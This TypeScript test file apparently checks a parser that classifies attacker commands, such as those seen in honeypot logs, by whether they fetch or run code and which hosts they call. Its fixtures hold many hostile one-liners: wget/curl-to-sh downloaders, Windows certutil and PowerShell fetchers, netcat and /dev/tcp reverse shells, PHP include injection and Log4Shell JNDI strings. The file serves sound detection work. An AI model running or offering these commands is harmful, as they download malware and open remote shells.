import { deepEqual, ok } from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { readPayload } from './payload.ts'
import { stepsOf } from './steps.ts'

const commands: readonly (readonly [
  text: string,
  told: '' | 'fetch' | 'fetch and run',
  fetched: readonly string[],
])[] = [
  ['cd /tmp;rm -rf *;wget http://192.0.2.7:8088/Mozi.m;sh Mozi.m', 'fetch and run', ['192.0.2.7']],
  ['/c tftp -i 192.0.2.7 GET Admin.dll', 'fetch', ['192.0.2.7']],
  ['cmd=wget http://198.51.100.9/a -O /tmp/b', 'fetch', ['198.51.100.9']],
  ['cmd=busybox wget 198.51.100.9/x -O - | sh', 'fetch and run', ['198.51.100.9']],
  ['/bin/busybox wget 198.51.100.9/x;./x', 'fetch and run', ['198.51.100.9']],
  [
    'curl -s http://user:pass@evil.example.org:81/x|sh; wget http://192.0.2.1/y',
    'fetch and run',
    ['192.0.2.1', 'evil.example.org'],
  ],
  ['wget http://[2001:db8::1]:80/x', 'fetch', ['2001:db8::1']],
  ["system('wget http://192.0.2.7/x')", 'fetch', ['192.0.2.7']],
  ['cd /tmp;wget a.example.org/jaws;sh /tmp/jaws', 'fetch and run', ['a.example.org']],
  ['wget 0.0.0.0/jaws;sh /tmp/jaws', 'fetch and run', ['0.0.0.0']],
  ['ftpget -v -u a -p a -P 21 198.51.100.9 x x;chmod 777 x', 'fetch and run', ['198.51.100.9']],
  ['wget http://%s:%d/Mozi.m -O -> /tmp/Mozi.m;chmod 777 /tmp/Mozi.m', 'fetch and run', []],
  ['wget http://198.51.100.9/x -O /tmp/x;/tmp/x', 'fetch and run', ['198.51.100.9']],
  ['wget http://198.51.100.9/x -O sh', 'fetch', ['198.51.100.9']],
  ['wget http://198.51.100.9/x;busybox sh x', 'fetch and run', ['198.51.100.9']],
  [String.raw`wget http:\/\/198.51.100.9\/x;sh x`, 'fetch and run', ['198.51.100.9']],
  ['bash -c "wget http://198.51.100.9/x"', 'fetch', ['198.51.100.9']],
  [
    "(new-object System.Net.WebClient).DownloadFile('http://198.51.100.9/a.exe','a.exe');start a.exe",
    'fetch and run',
    ['198.51.100.9'],
  ],
  ['certutil.exe -urlcache -split -f http://198.51.100.9/a.exe a.exe', 'fetch', ['198.51.100.9']],
  ['-d auto_prepend_file=http://198.51.100.9/x.txt', 'fetch', ['198.51.100.9']],
  ['wget http://198.51.100.9/sh', 'fetch', ['198.51.100.9']],
  ['wget http://198.51.100.9/wget.sh -O sh.example.org/x', 'fetch', ['198.51.100.9']],
  ['wget http://198.51.100.9/sh -O - > /tmp/kh', 'fetch', ['198.51.100.9']],
  ['-d allow_url_include=on -d auto_prepend_file=php://input', '', []],
  ['url=http://192.0.2.7/picture.png', '', []],
  ['file=wget-1.21.3.tar.gz', '', []],
  ['wget http://0x7f.1/x', 'fetch', []],
  ['wget', '', []],
  ['how to wget a page; chmod it', '', []],
  ['chmod 777 x; sh x', '', []],
  ['curl http://c8f3.oast.fun/a | sh', '', []],
  ['nc -w 5 198.51.100.9 31337 0</tmp/s|/bin/sh>/tmp/s', '', []],
  ['${jndi:ldap://198.51.100.9:1389/a}', '', []],
]

for (const [text, told, fetched] of commands) {
  const where = fetched.length > 0 ? ` from ${fetched.join(' and ')}` : ''
  test(`${text} tells it ${told === '' ? 'nothing' : `to ${told}`}${where}`, () => {
    const payload = readPayload(text)
    deepEqual([payload.told, payload.fetched], [told, fetched])
  })
}

const called: readonly (readonly [text: string, hosts: readonly string[]])[] = [
  ['mkfifo /tmp/s;nc -w 5 198.51.100.9 31337 0</tmp/s|/bin/sh', ['198.51.100.9']],
  ['bash -i >& /dev/tcp/198.51.100.9/4444 0>&1', ['198.51.100.9']],
  ['${jndi:ldap://198.51.100.9:1389/Basic/Command/a}', ['198.51.100.9']],
  ['${jndi:ldap://${hostName}.example.org/a}', []],
  ['curl http://c8f3.oast.fun/a', ['c8f3.oast.fun']],
  ['wget http://localhost/x', []],
]

for (const [text, hosts] of called) {
  test(`${text} has it call ${hosts.join(' and ') || 'nobody'}`, () =>
    deepEqual(readPayload(text).hosts, hosts))
}

test('whom the command calls that Log4Shell kits hide in base64 is read', () => {
  const command = 'd2dldCBodHRwOi8vMjAzLjAuMTEzLjUveDtjaG1vZCA3NzcgeDsuL3g='
  const payload = readPayload(
    `\${jndi:ldap://198.51.100.9:1389/TomcatBypass/Command/Base64/${command}}`,
  )
  deepEqual(payload, {
    told: '',
    fetched: [],
    hosts: ['198.51.100.9', '203.0.113.5'],
  })
})

const pieces = fc.constantFrom(
  'wget ',
  'curl ',
  'nc ',
  'jndi:ldap://',
  'base64/',
  '/dev/tcp/',
  'http://',
  '198.51.100.9',
  'a.example.org/',
  '@',
  '[',
  ']',
  ':',
  ';',
  ' ',
  '${',
  '}',
  '=',
  '-o ',
  'd2dldCA',
  '\0',
  '%s',
)

test('whatever is sent is read in steps that its length bounds', () => {
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 200 }), parts => {
      const text = parts.join('')
      ok(stepsOf(() => readPayload(text)) <= 3 * text.length + 3)
    }),
  )
})

test('a line full of commands takes no more steps for each character than a short one', () => {
  const part = 'wget http://198.51.100.9/x;${jndi:ldap://a.example.org/Base64/d2dldCBodHRw};'
  for (const times of [1, 10, 1000]) {
    const text = part.repeat(times)
    ok(stepsOf(() => readPayload(text)) <= 3 * text.length + 3, String(times))
  }
})
